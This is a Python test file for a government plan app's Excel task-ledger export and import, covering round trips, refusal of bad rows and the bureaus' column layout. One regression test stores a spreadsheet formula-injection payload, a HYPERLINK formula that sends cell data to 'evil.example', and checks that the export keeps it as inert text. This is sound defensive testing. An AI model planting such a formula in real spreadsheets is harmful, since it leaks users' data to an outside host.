"""The Excel task ledger: export in the bureaus' layout, import of progress by 序号 (idempotent),
refusal of bad sheets with row numbers."""

from __future__ import annotations

import io
from datetime import timedelta

from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from ecogov.plans import service
from ecogov.plans.excel import HEADER
from ecogov.plans.models import ProgressReport
from ecogov.platform import clock
from ecogov.platform.db import Database
from ecogov.platform.scope import SYSTEM, Role
from tests.helpers import login, make_user
from tests.plans.support import CITY, small_plan, task_ids

TASKS = [
    ("1", "2026-06-30", ("市环保局",)),
    ("2", "2026-09", ("市治水办", "市建委")),
    ("3", None, ()),
]


def _sheet(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["某某计划重点任务台账"])
    sheet.append(list(HEADER))
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _import(client: TestClient, token: str, plan: int, content: bytes) -> tuple[int, str]:
    response = client.post(
        f"/plans/{plan}/tasks/import",
        data={"csrf_token": token},
        files={"file": ("台账.xlsx", content)},
        follow_redirects=True,
    )
    return response.status_code, response.text


def _reports(db: Database) -> int:
    with db.transaction(SYSTEM) as session:
        return session.scalar(select(func.count(ProgressReport.id))) or 0


def test_export_then_import_round_trip(db: Database, client: TestClient) -> None:
    plan = small_plan(db, "330100", TASKS)
    service.add_report(db, CITY, "task", task_ids(db, plan)["2"], "已完成方案编制")
    make_user(db, "hz", Role.CITY_OFFICER, "330100")
    token = login(client, "hz")

    exported = client.get(f"/plans/{plan}/tasks.xlsx")
    assert exported.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(exported.content)).worksheets[0]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[1] == list(HEADER)
    assert rows[2][:7] == ["1", "任务1", "市环保局", None, "2026年6月30日", "已交办", None]
    assert rows[3][2:7] == ["市治水办、市建委", None, "2026年9月30日", "已交办", "已完成方案编制"]

    rows[2][6] = "已完成年度任务"  # new progress for 1, 2 unchanged, 3 still empty
    status, page = _import(client, token, plan, _sheet(rows[2:]))
    assert status == 200
    assert 'id="import-result"' in page
    assert "新增进展 1" in page
    assert _reports(db) == 2
    status, page = _import(client, token, plan, _sheet(rows[2:]))  # the same sheet again
    assert "新增进展 0" in page
    assert _reports(db) == 2
    ledger = client.get(f"/plans/tasks?plan={plan}").text
    assert "已完成年度任务" in ledger


def test_bad_rows_are_refused_with_their_numbers(db: Database, client: TestClient) -> None:
    plan = small_plan(db, "330100", TASKS)
    make_user(db, "hz", Role.CITY_OFFICER, "330100")
    token = login(client, "hz")
    bad = _sheet(
        [
            [1.0, "任务1", "", "", "", "", "进展甲"],  # Excel numbers are fine
            ["9", "不存在", "", "", "", "", "进展乙"],
            ["", "", "", "", "", "", "无序号的进展"],
            ["1", "任务1", "", "", "", "", "重复"],
        ]
    )
    status, page = _import(client, token, plan, bad)
    assert status == 422
    assert "row 4: 序号 &#39;9&#39; is not a task of plan" in page
    assert "row 5: 序号 is empty" in page
    assert "row 6: 序号 &#39;1&#39; repeats row 3" in page
    assert _reports(db) == 0  # nothing of a refused sheet is kept

    status, page = _import(client, token, plan, b"not a workbook")
    assert status == 422
    assert "not a readable .xlsx workbook" in page
    workbook = Workbook()
    buffer = io.BytesIO()
    workbook.save(buffer)
    status, page = _import(client, token, plan, buffer.getvalue())
    assert status == 422
    assert "no header row" in page


def test_stored_text_cannot_break_or_script_the_export(db: Database, client: TestClient) -> None:
    """Defect 16: a control character made every export a 500; ``=`` made a live formula."""
    plan = small_plan(db, "330100", TASKS)
    tasks = task_ids(db, plan)
    make_user(db, "hz", Role.CITY_OFFICER, "330100")
    token = login(client, "hz")
    headers = {"X-CSRF-Token": token}
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    for number, text in (("1", "progress\x01ok"), ("2", formula)):
        reported = client.post(
            f"/api/v1/plans/tasks/{tasks[number]}/reports", data={"text": text}, headers=headers
        )
        assert reported.status_code == 201, reported.text

    exported = client.get(f"/plans/{plan}/tasks.xlsx")
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.content)).worksheets[0]
    assert sheet.cell(3, 7).value == "progressok"
    assert sheet.cell(4, 7).value == formula
    assert sheet.cell(4, 7).data_type == "s"  # text, not a formula Excel would run

    status, page = _import(client, token, plan, exported.content)  # and the sheet reads back:
    assert status == 200
    assert "新增进展 1" in page  # only the cleaned text of task 1 differs from what is stored


def test_the_export_is_the_bureaus_ledger_layout(db: Database, client: TestClient) -> None:
    """Issue 14 defect 6: Chinese headers, state names and dates, days overdue."""
    today = clock.today()
    late = (today - timedelta(days=12)).isoformat()
    plan = small_plan(db, "330100", [("1", late, ("市环保局",)), ("2", None, ())])
    service.escalate(db, today)
    make_user(db, "hz", Role.CITY_OFFICER, "330100")
    login(client, "hz")
    exported = client.get(f"/plans/{plan}/tasks.xlsx")
    assert "plan-" in exported.headers["content-disposition"]
    workbook = load_workbook(io.BytesIO(exported.content))
    sheet = workbook.worksheets[0]
    assert sheet.title == "任务台账"
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][0] == "测试工作要点 重点任务台账"
    assert sheet.cell(1, 1).font.bold
    assert rows[1] == [
        "序号", "任务", "牵头单位", "配合单位", "完成时限", "状态", "进展", "逾期天数"
    ]  # fmt: skip
    due = today - timedelta(days=12)
    assert rows[2] == [
        "1", "任务1", "市环保局", None, f"{due.year}年{due.month}月{due.day}日", "已逾期", None, 12
    ]  # fmt: skip
    assert rows[3] == ["2", "任务2", None, None, "2026年12月31日", "已交办", None, None]  # plan end
    assert sheet.column_dimensions["B"].width == 60


def test_a_sheet_of_the_older_layout_still_imports(db: Database, client: TestClient) -> None:
    """Sheets exported before the 进展 column was renamed say 进展情况."""
    plan = small_plan(db, "330100", TASKS)
    make_user(db, "hz", Role.CITY_OFFICER, "330100")
    token = login(client, "hz")
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["序号", "工作任务", "牵头单位", "配合单位", "完成时限", "进展情况"])
    sheet.append(["1", "任务1", "", "", "", "旧表的进展"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    status, page = _import(client, token, plan, buffer.getvalue())
    assert status == 200
    assert "新增进展 1" in page
